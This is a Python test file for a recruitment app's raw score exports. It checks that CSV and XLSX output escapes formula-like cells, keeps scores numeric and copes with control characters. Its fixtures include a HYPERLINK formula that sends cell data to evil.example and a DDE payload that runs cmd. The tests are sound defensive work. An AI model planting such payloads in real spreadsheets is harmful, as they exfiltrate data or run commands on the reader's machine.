"""Raw score exports: CSV and XLSX with formula-looking cells neutralised and scores as numbers."""

from __future__ import annotations

import csv
import io
from io import BytesIO

import pytest
from openpyxl import load_workbook

from recruit.domain.scoring.exports import (
    EXCEL_CELL_LIMIT,
    NO_EVIDENCE,
    RAW_SCORE_HEADER,
    RawScoreRow,
    raw_scores_csv,
    raw_scores_xlsx,
)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TRIGGERS = ("=1+1", "+44 20 7946 0000", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1")


def row(**changes: object) -> RawScoreRow:
    values: dict[str, object] = {
        "vacancy": "Director of Children's Services",
        "stage": "Final panel interview",
        "candidate_label": "C-01",
        "member_label": "Cllr Ruth Owen",
        "question_id": "values-01",
        "question_text": "Tell us about a time your values shaped a hard decision.",
        "attribute_name": "Leadership and change driven by values",
        "score": 4,
        "evidence": "Kept siblings together; moved the budget to do it.",
        "submitted_at": "2027-01-12T10:15:00+00:00",
        "amended": False,
    }
    values.update(changes)
    return RawScoreRow(**values)  # type: ignore[arg-type]


def rows() -> list[RawScoreRow]:
    return [
        row(),
        row(member_label="Jo Bell", score=None, evidence="Ran out of time.", amended=True),
        row(
            candidate_label=FORMULA,
            member_label="@admin",
            evidence="-1 for lateness",
            question_text="=cmd|' /C calc'!A0",
        ),  # fmt: skip
        row(evidence="\x00Pasted\x07 text\r\nwith a new line", question_id="#N/A"),
    ]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- CSV ----------------------------------------------------------------------------------


def test_csv_has_a_header_and_one_row_per_score() -> None:
    table = read_csv(raw_scores_csv(rows()))

    assert table[0] == list(RAW_SCORE_HEADER)
    assert len(table) == 5
    assert table[1] == [
        "Director of Children's Services", "Final panel interview", "C-01", "Cllr Ruth Owen",
        "values-01", "Tell us about a time your values shaped a hard decision.",
        "Leadership and change driven by values", "4",
        "Kept siblings together; moved the budget to do it.", "2027-01-12T10:15:00+00:00", "No",
    ]  # fmt: skip
    assert table[2][7] == NO_EVIDENCE and table[2][10] == "Yes"


def test_csv_neutralises_cells_a_spreadsheet_would_run() -> None:
    table = read_csv(raw_scores_csv(rows()))
    third = dict(zip(RAW_SCORE_HEADER, table[3], strict=True))

    assert third["Candidate"] == "'" + FORMULA
    assert third["Panel member"] == "'@admin"
    assert third["Evidence"] == "'-1 for lateness"
    assert third["Question"] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_formula_trigger_is_neutralised_in_csv(text: str) -> None:
    table = read_csv(raw_scores_csv([row(evidence=text, member_label=text)]))

    assert table[1][3].startswith("'") and table[1][8].startswith("'")


def test_csv_removes_control_characters_and_keeps_line_breaks_inside_the_cell() -> None:
    table = read_csv(raw_scores_csv(rows()))

    assert table[4][8] == "Pasted text\nwith a new line"
    assert raw_scores_csv(rows()).endswith("\r\n")


def test_csv_of_no_rows_is_just_the_header() -> None:
    assert read_csv(raw_scores_csv([])) == [list(RAW_SCORE_HEADER)]


# --- XLSX ---------------------------------------------------------------------------------


def open_sheet(data: bytes):  # type: ignore[no-untyped-def]
    workbook = load_workbook(BytesIO(data))
    return workbook["Raw scores"]


def test_workbook_has_a_bold_frozen_header_and_sensible_widths() -> None:
    sheet = open_sheet(raw_scores_xlsx(rows()))

    assert [cell.value for cell in sheet[1]] == list(RAW_SCORE_HEADER)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 5
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABFHI"}
    assert widths["I"] > widths["F"] > widths["A"] > widths["H"] >= 8
    assert sheet["I2"].alignment.wrap_text


def test_workbook_scores_are_numbers_and_text_is_stored_as_strings() -> None:
    sheet = open_sheet(raw_scores_xlsx(rows()))

    assert sheet["H2"].value == 4 and sheet["H2"].data_type == "n"
    assert sheet["H3"].value == NO_EVIDENCE and sheet["H3"].data_type == "s"
    assert sheet["K3"].value == "Yes"
    for row_cells in sheet.iter_rows(min_row=2):
        for cell in row_cells:
            if cell.column_letter != "H":
                assert cell.data_type == "s", cell.coordinate
    # "#N/A" would otherwise be stored as an error value.
    assert sheet["E5"].value == "#N/A" and sheet["E5"].data_type == "s"


def test_workbook_neutralises_formula_cells_the_same_way_as_csv() -> None:
    sheet = open_sheet(raw_scores_xlsx(rows()))
    csv_cells = read_csv(raw_scores_csv(rows()))

    assert sheet["C4"].value == "'" + FORMULA and sheet["C4"].data_type == "s"
    assert sheet["D4"].value == "'@admin"
    assert sheet["F4"].value == "'=cmd|' /C calc'!A0"
    assert [sheet.cell(4, column).value for column in range(1, 12) if column != 8] == [
        value for index, value in enumerate(csv_cells[3]) if index != 7
    ]


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_formula_trigger_is_neutralised_in_the_workbook(text: str) -> None:
    sheet = open_sheet(raw_scores_xlsx([row(evidence=text)]))

    assert str(sheet["I2"].value).startswith("'") and sheet["I2"].data_type == "s"


def test_workbook_survives_control_characters_and_overlong_text() -> None:
    hostile = "\x00\x07\x0b\ufffe\ud800 مدير 👩🏽‍👧 " + "x" * 40_000

    sheet = open_sheet(raw_scores_xlsx([row(evidence=hostile, candidate_label=hostile)]))

    value = str(sheet["I2"].value)
    # Excel measures cells in UTF-16 units, in which each emoji here counts twice.
    assert len(value.encode("utf-16-le")) // 2 == EXCEL_CELL_LIMIT
    assert value.endswith("the full text is in the CSV export)")
    assert value.startswith("\n مدير 👩🏽\u200d👧 xxx"), "vertical tab as a line break"
    assert sheet["C2"].value == value
